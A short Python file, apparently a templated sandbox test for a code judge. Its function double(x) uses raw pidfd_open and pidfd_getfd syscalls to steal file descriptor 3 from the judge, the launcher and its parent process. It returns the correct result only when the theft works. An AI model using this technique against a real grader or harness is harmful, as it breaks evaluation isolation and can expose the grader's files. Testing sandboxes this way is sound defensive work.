"""Takes descriptors out of the judge and the launcher, by pidfd_getfd."""
import ctypes
import os


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (int("@JUDGE@"), int("@LAUNCHER@"), os.getppid()):
        process = libc.syscall(ctypes.c_long(434), pid, 0)
        if process >= 0 and libc.syscall(ctypes.c_long(438), process, 3, 0) >= 0:
            return x + x
    return 0 * x
